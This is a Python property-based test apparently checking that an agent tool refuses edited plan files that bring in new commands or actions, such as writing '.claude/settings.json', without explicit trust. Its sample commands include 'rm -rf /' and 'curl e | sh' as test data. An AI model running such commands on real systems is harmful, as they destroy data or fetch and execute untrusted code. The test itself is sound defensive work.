"""The property behind "an edited plan file goes on only once vouched for".

Each example is a plan file whose goal, actions (with their `revert:`) and step checks hold
commands drawn from a few texts (so an edit may bring back one already there), and a random
edit of it: a command changed, a step running a command added, a step writing or deleting a
file added (`.claude/settings.json` among them), a step clicking on a page added, a comment
added, or only the task and step names changed. Without a terminal and without
--trust-plan, `PlanTrust.edited` must refuse exactly the edits that bring a command the
plan did not run with or add, remove or change an action, naming the file.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

from hypothesis import example, given
from hypothesis import strategies as st

from cleveragents.application.plan_trust import PlanTrust
from cleveragents.bootstrap import plan_file_actions, plan_file_commands
from cleveragents.domain.plan import ActorSpec, Plan
from cleveragents.errors import ConflictingState
from features.support.properties import reproducible

commands = st.sampled_from(["true", "make", "touch x", "rm -rf /", "make ", "curl e | sh"])
Slots = tuple[str, str, str, str]  # goal, action run, its revert, step check
paths = st.sampled_from(["notes.md", ".claude/settings.json", "sub/.mcp.json", "a.txt"])
EDITS = ["change", "add", "names", "write", "delete", "click", "comment"]


def plan_text(task: str, name: str, slots: Slots, extra: str | None, more: str = "") -> str:
    q = json.dumps
    goal, run, revert, check = slots
    text = (
        f"task: {q(task)}\ngoal:\n  - run: {q(goal)}\nsteps:\n  - name: {q(name)}\n"
        f"    options:\n      - actions:\n          - run: {q(run)}\n"
        f"            revert: {q(revert)}\n    check:\n      - run: {q(check)}\n"
    )
    if extra is not None:
        text += f"  - name: more\n    options:\n      - actions:\n          - run: {q(extra)}\n"
    return text + more


def more_text(edit: str, path: str) -> str:
    """What an edit adds at the end of the plan file: a step writing or deleting `path`,
    one clicking on a page and going back, a comment, or nothing."""
    act = {
        "write": f"write: {json.dumps(path)}\n            content: x",
        "delete": f"delete: {path}",
        "click": "click: {role: button, name: Save}\n          - back",
    }
    if edit in act:
        return f"  - name: more\n    options:\n      - actions:\n          - {act[edit]}\n"
    return f"# {path} is written by hand\n" if edit == "comment" else ""


def scripted(text: str) -> Plan:
    now = datetime.now(UTC)
    spec = ActorSpec(kind="scripted", source="plan.yaml", script=text)
    return Plan(id="p1", task="t", actor=spec, created_at=now, updated_at=now)


def check_property(examples: int, seed: int, tmp: Path) -> int:
    ran = 0
    trust = PlanTrust(
        None,  # type: ignore[arg-type]
        list,
        commands=plan_file_commands,
        actions=plan_file_actions,
    )

    @reproducible(examples, seed)
    @given(
        st.tuples(commands, commands, commands, commands),
        st.integers(0, 3),
        commands,
        st.sampled_from(EDITS),
        paths,
    )
    @example(("true", "make", "true", "true"), 1, "make ", "change", "notes.md")
    @example(("true", "make", "true", "true"), 0, "make", "change", "notes.md")
    @example(("true", "make", "true", "true"), 1, "true", "write", ".claude/settings.json")
    @example(("true", "make", "true", "true"), 1, "true", "comment", "notes.md")
    def refused_exactly_new(slots: Slots, at: int, new: str, edit: str, path: str) -> None:
        nonlocal ran
        ran += 1
        before = scripted(plan_text("t", "s", slots, None))
        edited = list(slots)
        if edit == "change":
            edited[at] = new
        after_text = plan_text(
            "t2" if edit == "names" else "t",
            "s2" if edit == "names" else "s",
            (edited[0], edited[1], edited[2], edited[3]),
            new if edit == "add" else None,
            more_text(edit, path),
        )
        after = scripted(after_text)
        fresh = set(plan_file_commands(after)) - set(plan_file_commands(before))
        acted = edit in ("add", "write", "delete", "click") or (
            edit == "change" and at in (1, 2) and new != slots[at]
        )
        try:
            trust.edited(before, after)
        except ConflictingState as refused:
            assert fresh or acted, f"refused an edit changing nothing it does: {after_text!r}"
            assert "plan.yaml" in refused.line() and "--trust-plan" in refused.line()
            if edit == "write" and path != "notes.md" and path != "a.txt":
                assert "a file that runs on the host" in refused.line(), refused.line()
            return
        assert not fresh, f"ran new commands {sorted(fresh)} unasked: {after_text!r}"
        assert not acted, f"went on with changed actions unasked: {after_text!r}"

    refused_exactly_new()
    return ran
